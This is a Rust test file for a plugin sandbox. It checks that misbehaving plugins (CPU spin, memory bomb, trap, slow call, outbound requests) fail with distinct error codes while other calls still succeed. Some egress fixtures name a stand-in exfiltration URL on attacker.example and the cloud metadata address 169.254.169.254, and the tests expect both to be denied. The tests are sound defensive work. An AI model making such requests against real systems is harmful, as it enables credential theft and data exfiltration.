//! Each adversarial fixture fails only its own call, with its own error code, while
//! well-behaved calls run concurrently and the host stays healthy.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::tests::{event, futures_join_all, install, runtime, target, test_config, test_limits};
use crate::{CallTarget, PluginError, PluginHost, PluginRef};

fn denial_reason(err: &PluginError) -> &str {
    match err {
        PluginError::CapabilityDenied { reason, .. } => reason,
        _ => "",
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_misbehaving_plugin_fails_only_its_own_call() {
    let runtime = runtime(test_config());
    for name in
        ["fixture-noop", "fixture-spin-loop", "fixture-memory-bomb", "fixture-trap", "fixture-slow", "fixture-egress"]
    {
        install(&runtime, name).await;
    }
    let denied_before = runtime.egress_denied_total();

    let bad_calls: Vec<(&str, CallTarget)> = vec![
        ("spin-loop", target("trellis.fixture.spin-loop", json!({}))),
        ("memory-bomb", target("trellis.fixture.memory-bomb", json!({}))),
        ("trap", target("trellis.fixture.trap", json!({}))),
        ("slow", target("trellis.fixture.slow", json!({"sleepMs": 600_000}))),
        // The record's own host is loopback: allowed by the allowlist, refused after resolution.
        (
            "loopback",
            target("trellis.fixture.egress", json!({"url": "http://127.0.0.1:9/"})).with_record_hosts(["127.0.0.1:9"]),
        ),
        (
            "metadata",
            target("trellis.fixture.egress", json!({"url": "http://169.254.169.254/latest/meta-data/"}))
                .with_record_hosts(["169.254.169.254"]),
        ),
        // A host that is neither the record's nor granted is refused before any DNS lookup.
        (
            "unlisted",
            target("trellis.fixture.egress", json!({"url": "https://attacker.example/exfiltrate"}))
                .with_record_hosts(["hooks.slack.com"]),
        ),
    ];

    let started = Instant::now();
    let mut handles = Vec::new();
    for (name, call_target) in bad_calls {
        let runtime = runtime.clone();
        handles.push((
            name,
            tokio::spawn(async move { runtime.notify(&call_target, &event("certificate.expiring")).await }),
        ));
    }
    // Well-behaved neighbours, running while the bad calls misbehave.
    let good_target = Arc::new(target("trellis.fixture.noop", json!({})));
    let good: Vec<_> = (0..200)
        .map(|_| {
            let runtime = runtime.clone();
            let good_target = good_target.clone();
            tokio::spawn(async move {
                tokio::time::sleep(Duration::from_millis(1)).await;
                runtime.notify(&good_target, &event("certificate.issued")).await
            })
        })
        .collect();

    let mut codes = BTreeSet::new();
    let mut outcomes = Vec::new();
    for (name, handle) in handles {
        let result = handle.await.expect("call task does not panic");
        let err = result.expect_err(name);
        outcomes.push((name, err.code(), denial_reason(&err).to_owned(), err.to_string()));
    }
    let good_results = futures_join_all(good).await;
    let good_failures = good_results.iter().filter(|r| r.is_err()).count();
    assert_eq!(good_failures, 0, "well-behaved calls failed: {:?}", good_results.iter().find(|r| r.is_err()));

    let expect = [
        ("spin-loop", "plugin.cpu_time_exceeded", ""),
        ("memory-bomb", "plugin.memory_limit_exceeded", ""),
        ("trap", "plugin.trapped", ""),
        ("slow", "plugin.wall_time_exceeded", ""),
        ("loopback", "plugin.capability_denied", "private_address"),
        ("metadata", "plugin.capability_denied", "metadata_address"),
        ("unlisted", "plugin.capability_denied", "host_not_allowed"),
    ];
    for ((name, code, reason, message), (want_name, want_code, want_reason)) in outcomes.iter().zip(expect) {
        assert_eq!((*name, *code, reason.as_str()), (want_name, want_code, want_reason), "{name}: {message}");
        codes.insert(*code);
    }
    // Trap, CPU, wall time, memory and capability denial are five distinct codes.
    assert_eq!(codes.len(), 5, "{codes:?}");
    assert_eq!(runtime.egress_denied_total() - denied_before, 3);

    // Bounded by the limits, not by the misbehaviour: the slow call ends at its wall time.
    assert!(started.elapsed() < test_limits().wall_time + Duration::from_secs(3), "{:?}", started.elapsed());

    // The host is healthy afterwards: the same plugins serve normal calls again.
    let after = runtime.notify(&good_target, &event("certificate.issued")).await;
    assert_eq!(after.expect("noop after").reference.as_deref(), Some("noop"));
    assert_eq!(runtime.calls_in_flight(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_response_fails_with_its_own_code() {
    let mut config = test_config();
    config.egress.allow_private_networks = true;
    config.egress.max_response_bytes = 64 << 10;
    let runtime = runtime(config);
    install(&runtime, "fixture-egress").await;

    // A plain HTTP server that answers every request with `size` bytes.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move {
        loop {
            let Ok((mut socket, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut buf = vec![0u8; 4096];
                let n = socket.read(&mut buf).await.unwrap_or(0);
                let request = String::from_utf8_lossy(&buf[..n]).to_string();
                let size: usize = if request.contains("/small") { 1000 } else { 1 << 20 };
                // `/undeclared` streams without Content-Length, so only the body cap can stop it.
                let head = if request.contains("/undeclared") {
                    "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n".to_string()
                } else {
                    format!("HTTP/1.1 200 OK\r\nContent-Length: {size}\r\nConnection: close\r\n\r\n")
                };
                let _ = socket.write_all(head.as_bytes()).await;
                let _ = socket.write_all(&vec![b'x'; size]).await;
                let _ = socket.shutdown().await;
            });
        }
    });

    let call = |path: &str| {
        let runtime = runtime.clone();
        let url = format!("http://127.0.0.1:{port}{path}");
        async move {
            let target =
                CallTarget::new("ws_test", PluginRef::Id("trellis.fixture.egress".into()), json!({ "url": url }))
                    .with_record_hosts([format!("127.0.0.1:{port}")]);
            runtime.notify(&target, &event("certificate.issued")).await
        }
    };
    let small = call("/small").await.expect("small response passes");
    assert_eq!((small.status, small.reference.as_deref()), (Some(200), Some("1000")));
    for path in ["/declared", "/undeclared"] {
        let err = call(path).await.expect_err(path);
        assert_eq!(err.code(), "plugin.http_response_too_large", "{path}: {err}");
    }
}

/// One workspace's calls cannot take every slot: with a share of 2 of 8, a workspace stuck in
/// two slow calls gets `plugin.overloaded` for a third while another workspace is served.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_gets_its_share_and_no_more() {
    let mut config = test_config();
    config.max_concurrent_calls = 8;
    config.max_calls_per_workspace = Some(2);
    config.admission_timeout = Duration::from_millis(300);
    let runtime = runtime(config);
    install(&runtime, "fixture-slow").await;
    install(&runtime, "fixture-noop").await;
    let in_workspace = |workspace: &str, plugin: &str, config: serde_json::Value| {
        CallTarget::new(workspace, PluginRef::Id(plugin.into()), config)
    };
    let mut busy = Vec::new();
    for _ in 0..2 {
        let runtime = runtime.clone();
        let slow = in_workspace("ws_greedy", "trellis.fixture.slow", json!({"sleepMs": 600_000}));
        busy.push(tokio::spawn(async move { runtime.notify(&slow, &event("certificate.expiring")).await }));
    }
    // Until both slow calls hold their slots, the greedy workspace's third call would still fit.
    while runtime.calls_in_flight() < 2 {
        tokio::task::yield_now().await;
    }
    let third = runtime
        .notify(&in_workspace("ws_greedy", "trellis.fixture.noop", json!({})), &event("certificate.expiring"))
        .await;
    assert!(matches!(third, Err(PluginError::Overloaded { .. })), "{third:?}");
    let other = runtime
        .notify(&in_workspace("ws_other", "trellis.fixture.noop", json!({})), &event("certificate.expiring"))
        .await;
    assert!(other.is_ok(), "another workspace is served: {other:?}");
    for handle in busy {
        handle.abort();
    }
}
